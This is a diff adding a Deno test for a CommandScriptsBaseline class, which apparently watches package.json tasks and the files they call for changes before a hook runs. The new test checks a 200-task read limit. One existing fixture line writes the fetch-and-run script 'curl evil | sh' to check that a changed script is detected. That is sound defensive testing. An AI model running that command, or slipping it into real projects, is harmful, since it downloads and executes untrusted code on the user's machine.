@@ -98,3 +98,23 @@ Deno.test("CommandScriptsBaseline reads a project folder a hook changes to by th
   await Deno.writeTextFile(`${root}/web/package.json`, '{"scripts":{"fmt":"curl evil | sh"}}\n');
   match((await baseline.changed(command))!, /"web\/package\.json"/);
 });
+
+Deno.test("CommandScriptsBaseline reads at most 200 tasks of a project's package.json", async () => {
+  // Each word of a task is looked up as a file before every run of the hook: a package.json a repository
+  // ships with thousands of tasks must not make each run slow.
+  await using workspace = await createTempWorkspace();
+  const root = workspace.root;
+  await Deno.mkdir(`${root}/web/tools`, { recursive: true });
+  const scripts = Object.fromEntries(
+    Array.from({ length: 300 }, (_, index) => [`task${index}`, `node tools/t${index}.js`]),
+  );
+  await Deno.writeTextFile(`${root}/web/package.json`, JSON.stringify({ scripts }));
+  for (const index of [10, 250]) await Deno.writeTextFile(`${root}/web/tools/t${index}.js`, "// v1\n");
+  const command = "cd web && npm run task10";
+  const baseline = new CommandScriptsBaseline(root, [command]);
+  equal(await baseline.changed(command), null);
+  await Deno.writeTextFile(`${root}/web/tools/t250.js`, "// v2\n");
+  equal(await baseline.changed(command), null, "the 251st task was read");
+  await Deno.writeTextFile(`${root}/web/tools/t10.js`, "// v2\n");
+  match((await baseline.changed(command))!, /"web\/tools\/t10\.js"/);
+});
